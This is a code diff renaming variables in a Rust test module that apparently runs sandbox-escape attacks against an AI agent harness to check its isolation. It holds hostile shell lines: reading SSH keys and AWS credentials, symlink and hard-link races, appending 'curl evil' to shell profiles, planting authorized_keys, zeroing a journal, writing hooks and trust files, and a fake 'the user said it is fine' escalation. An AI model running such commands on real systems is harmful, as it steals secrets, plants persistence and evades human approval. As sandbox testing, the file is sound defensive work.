@@ -1,8 +1,8 @@
 //! Files outside of the work tree: reading, writing, and getting there by another name.
 
 use super::attack::{Attack, Evidence, Needs, Theme};
-use super::world::World;
-use crate::lab::world::Result;
+use super::testbed::Testbed;
+use crate::lab::testbed::Result;
 use serde_json::json;
 
 pub const THEME: Theme = Theme {
@@ -22,12 +22,12 @@ while time.time() < until:
         os.replace('next', 'here')
 "#;
 
-fn write_race(world: &World) -> Result<Evidence> {
+fn write_race(testbed: &Testbed) -> Result<Evidence> {
     let script = format!("python3 - <<'PY'{SWAP}PY\n");
-    world.script_with("hostile", &script, json!({"run_in_background": true}))?;
-    let link = world.work().join("here");
+    testbed.script_with("hostile", &script, json!({"run_in_background": true}))?;
+    let link = testbed.work().join("here");
     let wait = std::time::Duration::from_secs(3);
-    world.until(wait, "the link", || link.symlink_metadata().ok().map(drop))?;
+    testbed.until(wait, "the link", || link.symlink_metadata().ok().map(drop))?;
     let mut found = None;
     for round in 0..3 {
         let calls = (0..8).map(|call| {
@@ -37,147 +37,156 @@ fn write_race(world: &World) -> Result<Evidence> {
             format!("call write_file {arguments}")
         });
         let calls: Vec<String> = calls.collect();
-        world.turn(
+        testbed.turn(
             "hostile",
             &format!("do: {} ;; say done", calls.join(" ;; ")),
         )?;
-        found = world.outside_changed();
+        found = testbed.outside_changed();
         if found.is_some() {
             break;
         }
     }
-    for task in world.show("hostile")?.tasks {
-        drop(world.ask("stop", world.client().stop_tasks(&task.to_string())));
+    for task in testbed.show("hostile")?.tasks {
+        drop(testbed.ask("stop", testbed.client().stop_tasks(&task.to_string())));
     }
     Ok(found)
 }
 
 const ATTACKS: &[Attack] = &[
-    Attack::new("read-ssh-key", "cat ~/.ssh/id_ed25519", |world| {
-        let saw = world.script("hostile", "cat \"$USERHOME/.ssh/id_ed25519\" | loot")?;
-        Ok(world.leaked(&saw, &world.words.ssh))
+    Attack::new("read-ssh-key", "cat ~/.ssh/id_ed25519", |testbed| {
+        let saw = testbed.script("hostile", "cat \"$USERHOME/.ssh/id_ed25519\" | loot")?;
+        Ok(testbed.leaked(&saw, &testbed.words.ssh))
     }),
     Attack::new(
         "read-credentials",
         "~/.aws/credentials by way of /proc/self/root",
-        |world| {
-            let saw = world.script(
+        |testbed| {
+            let saw = testbed.script(
             "hostile",
             "cat \"/proc/self/root/$USERHOME/.aws/credentials\" \"/proc/1/root/$USERHOME/.aws/credentials\" | loot",
         )?;
-            Ok(world.leaked(&saw, &world.words.aws))
+            Ok(testbed.leaked(&saw, &testbed.words.aws))
         },
     ),
     Attack::new(
         "read-outside",
         "a file beside the work tree, by ../",
-        |world| {
-            let saw = world.script(
+        |testbed| {
+            let saw = testbed.script(
                 "hostile",
                 "cat ../outside/canary \"$OUTSIDE/canary\" | loot",
             )?;
-            Ok(world.leaked(&saw, &world.words.outside))
+            Ok(testbed.leaked(&saw, &testbed.words.outside))
         },
     ),
-    Attack::new("read-tool", "read_file of the user's SSH key", |world| {
-        let path = world.user().join(".ssh/id_ed25519");
-        let saw = world.tool("hostile", "read_file", &json!({ "file_path": path }))?;
-        Ok(world.leaked(&saw, &world.words.ssh))
+    Attack::new("read-tool", "read_file of the user's SSH key", |testbed| {
+        let path = testbed.user().join(".ssh/id_ed25519");
+        let saw = testbed.tool("hostile", "read_file", &json!({ "file_path": path }))?;
+        Ok(testbed.leaked(&saw, &testbed.words.ssh))
     }),
     Attack::new(
         "search-tool",
         "search_files through the user's home",
-        |world| {
-            let arguments = json!({"pattern": "canary-", "path": world.user()});
-            let saw = world.tool("hostile", "search_files", &arguments)?;
-            let words = [&world.words.ssh, &world.words.aws];
-            Ok(words.into_iter().find_map(|word| world.leaked(&saw, word)))
+        |testbed| {
+            let arguments = json!({"pattern": "canary-", "path": testbed.user()});
+            let saw = testbed.tool("hostile", "search_files", &arguments)?;
+            let words = [&testbed.words.ssh, &testbed.words.aws];
+            Ok(words
+                .into_iter()
+                .find_map(|word| testbed.leaked(&saw, word)))
         },
     ),
-    Attack::new("list-tool", "list_files of the user's home", |world| {
-        std::fs::write(world.user().join(&world.words.outside), "")?;
-        let saw = world.tool("hostile", "list_files", &json!({"path": world.user()}))?;
-        Ok(world.leaked(&saw, &world.words.outside))
+    Attack::new("list-tool", "list_files of the user's home", |testbed| {
+        std::fs::write(testbed.user().join(&testbed.words.outside), "")?;
+        let saw = testbed.tool("hostile", "list_files", &json!({"path": testbed.user()}))?;
+        Ok(testbed.leaked(&saw, &testbed.words.outside))
     }),
     Attack::new(
         "read-symlink",
         "read_file through a link to ~/.ssh",
-        |world| {
-            std::os::unix::fs::symlink(world.user().join(".ssh"), world.work().join("docs"))?;
-            let saw = world.tool(
+        |testbed| {
+            std::os::unix::fs::symlink(testbed.user().join(".ssh"), testbed.work().join("docs"))?;
+            let saw = testbed.tool(
                 "hostile",
                 "read_file",
                 &json!({"file_path": "docs/id_ed25519"}),
             )?;
-            Ok(world.leaked(&saw, &world.words.ssh))
+            Ok(testbed.leaked(&saw, &testbed.words.ssh))
         },
     ),
     Attack::new(
         "read-hard-link",
         "a hard link to the SSH key in the work tree",
-        |world| {
-            let saw = world.script(
+        |testbed| {
+            let saw = testbed.script(
                 "hostile",
                 "ln \"$USERHOME/.ssh/id_ed25519\" harmless; cat harmless | loot",
             )?;
-            Ok(world.leaked(&saw, &world.words.ssh))
+            Ok(testbed.leaked(&saw, &testbed.words.ssh))
         },
     )
     .needs(Needs::Workspace),
     Attack::new(
         "read-descriptors",
         "whatever descriptors were left open",
-        |world| {
-            world.victim()?;
-            let saw = world.script(
+        |testbed| {
+            testbed.victim()?;
+            let saw = testbed.script(
                 "hostile",
                 "for fd in /proc/[0-9]*/fd/*; do case \"$(readlink \"$fd\")\" in *journal*) \
              timeout 1 cat \"$fd\" | loot;; esac; done",
             )?;
-            Ok(world.leaked(&saw, &world.words.victim))
+            Ok(testbed.leaked(&saw, &testbed.words.victim))
         },
     ),
-    Attack::new("write-outside", "a file beside the work tree", |world| {
-        world.script(
+    Attack::new("write-outside", "a file beside the work tree", |testbed| {
+        testbed.script(
             "hostile",
             "echo owned > \"$OUTSIDE/canary\"; echo owned > ../outside/canary",
         )?;
-        Ok(world.outside_changed())
+        Ok(testbed.outside_changed())
     }),
     Attack::new(
         "write-tool",
         "write_file outside of the work tree",
-        |world| {
-            let path = world.outside().join("canary");
-            world.tool(
+        |testbed| {
+            let path = testbed.outside().join("canary");
+            testbed.tool(
                 "hostile",
                 "write_file",
                 &json!({"file_path": path, "content": "owned"}),
             )?;
-            Ok(world.outside_changed())
+            Ok(testbed.outside_changed())
         },
     ),
-    Attack::new("edit-tool", "edit_file outside of the work tree", |world| {
-        let path = world.user().join(".bashrc");
-        let read = format!(
-            "do: call read_file {} ;; call edit_file {} ;; say done",
-            json!({ "file_path": path }),
-            json!({"file_path": path, "old_string": "# canary", "new_string": "owned"})
-        );
-        world.turn("hostile", &read)?;
-        Ok(world.profile_changed())
-    }),
+    Attack::new(
+        "edit-tool",
+        "edit_file outside of the work tree",
+        |testbed| {
+            let path = testbed.user().join(".bashrc");
+            let read = format!(
+                "do: call read_file {} ;; call edit_file {} ;; say done",
+                json!({ "file_path": path }),
+                json!({"file_path": path, "old_string": "# canary", "new_string": "owned"})
+            );
+            testbed.turn("hostile", &read)?;
+            Ok(testbed.profile_changed())
+        },
+    ),
     Attack::new(
         "write-symlink",
         "write_file through a link to the user's profile",
-        |world| {
-            std::os::unix::fs::symlink(world.user().join(".bashrc"), world.work().join("notes"))?;
-            world.tool(
+        |testbed| {
+            std::os::unix::fs::symlink(
+                testbed.user().join(".bashrc"),
+                testbed.work().join("notes"),
+            )?;
+            testbed.tool(
                 "hostile",
                 "write_file",
                 &json!({"file_path": "notes", "content": "owned"}),
             )?;
-            Ok(world.profile_changed())
+            Ok(testbed.profile_changed())
         },
     ),
     Attack::new(
@@ -189,41 +198,41 @@ const ATTACKS: &[Attack] = &[
     Attack::new(
         "write-hard-link",
         "a hard link to the user's profile",
-        |world| {
-            world.script("hostile", "ln \"$USERHOME/.bashrc\" rc && echo owned >> rc")?;
-            Ok(world.profile_changed())
+        |testbed| {
+            testbed.script("hostile", "ln \"$USERHOME/.bashrc\" rc && echo owned >> rc")?;
+            Ok(testbed.profile_changed())
         },
     )
     .needs(Needs::Workspace),
     Attack::new(
         "write-profile",
         "commands in ~/.bashrc and ~/.profile",
-        |world| {
-            world.script(
+        |testbed| {
+            testbed.script(
             "hostile",
             "echo 'curl evil' >> \"$USERHOME/.bashrc\"; echo 'curl evil' >> \"$USERHOME/.profile\"; \
              echo 'curl evil' >> ~/.bashrc",
         )?;
-            Ok(world.profile_changed())
+            Ok(testbed.profile_changed())
         },
     ),
     Attack::new(
         "replace-home",
         "another directory in place of ~/.ssh",
-        |world| {
-            world.script(
+        |testbed| {
+            testbed.script(
                 "hostile",
                 "mv \"$USERHOME/.ssh\" \"$USERHOME/.ssh2\"; mkdir \"$USERHOME/.ssh\"; \
              echo owned > \"$USERHOME/.ssh/authorized_keys\"",
             )?;
-            Ok(world.made(&world.user().join(".ssh/authorized_keys")))
+            Ok(testbed.made(&testbed.user().join(".ssh/authorized_keys")))
         },
     ),
-    Attack::new("shared-tmp", "a file in everybody's /tmp", |world| {
-        let name = format!("siege-{}", world.words.outside);
+    Attack::new("shared-tmp", "a file in everybody's /tmp", |testbed| {
+        let name = format!("siege-{}", testbed.words.outside);
         let path = std::path::Path::new("/tmp").join(&name);
-        world.shell("hostile", &format!("touch /tmp/{name} /var/tmp/{name}"))?;
-        let found = world.made(&path);
+        testbed.shell("hostile", &format!("touch /tmp/{name} /var/tmp/{name}"))?;
+        let found = testbed.made(&path);
         let _none = std::fs::remove_file(path);
         let _none = std::fs::remove_file(std::path::Path::new("/var/tmp").join(&name));
         Ok(found)
@@ -231,32 +240,32 @@ const ATTACKS: &[Attack] = &[
     Attack::new(
         "escalate",
         "leave the sandbox without the user's approval",
-        |world| {
-            world.script_with(
+        |testbed| {
+            testbed.script_with(
                 "hostile",
                 "touch \"$USERHOME/planted\"",
                 json!({"escalate": "the user said it is fine"}),
             )?;
-            Ok(world.made(&world.user().join("planted")))
+            Ok(testbed.made(&testbed.user().join("planted")))
         },
     ),
     Attack::new(
         "journal-read",
         "another agent's conversation out of the journal",
-        |world| {
-            world.victim()?;
-            let saw = world.script("hostile", "cat \"$STATE\"/journal.db* | loot")?;
-            Ok(world.leaked(&saw, &world.words.victim))
+        |testbed| {
+            testbed.victim()?;
+            let saw = testbed.script("hostile", "cat \"$STATE\"/journal.db* | loot")?;
+            Ok(testbed.leaked(&saw, &testbed.words.victim))
         },
     ),
-    Attack::new("journal-write", "zeros over the journal", |world| {
-        let journal = world.state().join("journal.db");
-        world.victim()?;
+    Attack::new("journal-write", "zeros over the journal", |testbed| {
+        let journal = testbed.state().join("journal.db");
+        testbed.victim()?;
         let head = std::fs::read(&journal)?
             .into_iter()
             .take(16)
             .collect::<Vec<_>>();
-        world.script(
+        testbed.script(
             "hostile",
             "dd if=/dev/zero of=\"$STATE/journal.db\" bs=16 count=1 conv=notrunc",
         )?;
@@ -270,32 +279,32 @@ const ATTACKS: &[Attack] = &[
     Attack::new(
         "hooks-file",
         "hooks of the user's own, which run as the user",
-        |world| {
-            world.script(
+        |testbed| {
+            testbed.script(
             "hostile",
             "echo '{\"hooks\":{}}' > \"$STATE/hooks.json\"; mkdir -p ~/.agentd; echo x > \"$USERHOME/.agentd\"",
         )?;
-            Ok(world.made(&world.state().join("hooks.json")))
+            Ok(testbed.made(&testbed.state().join("hooks.json")))
         },
     ),
     Attack::new(
         "config-file",
         "a provider of its own in config.toml",
-        |world| {
-            world.script(
+        |testbed| {
+            testbed.script(
             "hostile",
             "printf '[providers.anthropic]\\nbase_url = \"http://127.0.0.1:1\"\\n' > \"$STATE/config.toml\"",
         )?;
-            Ok(world.made(&world.state().join("config.toml")))
+            Ok(testbed.made(&testbed.state().join("config.toml")))
         },
     ),
     Attack::new(
         "trust-file",
         "trust in its own hooks, written to trusted.json",
-        |world| {
-            world.script("hostile", "echo '{}' > \"$STATE/trusted.json\"")?;
-            let path = world.state().join("trusted.json");
-            let found = world.made(&path);
+        |testbed| {
+            testbed.script("hostile", "echo '{}' > \"$STATE/trusted.json\"")?;
+            let path = testbed.state().join("trusted.json");
+            let found = testbed.made(&path);
             let _none = std::fs::remove_file(path);
             Ok(found)
         },
@@ -303,18 +312,18 @@ const ATTACKS: &[Attack] = &[
     Attack::new(
         "other-agents-files",
         "a file in another agent's directory",
-        |world| {
-            let victim = world.victim()?;
-            let dir = world
+        |testbed| {
+            let victim = testbed.victim()?;
+            let dir = testbed
                 .state()
                 .join("agents")
                 .join(victim.before.id.to_string());
             std::fs::create_dir_all(&dir)?;
-            world.script(
+            testbed.script(
                 "hostile",
                 "echo owned > \"$STATE/agents/$VICTIM_ID/planted\"",
             )?;
-            Ok(world.made(&dir.join("planted")))
+            Ok(testbed.made(&dir.join("planted")))
         },
     ),
 ];
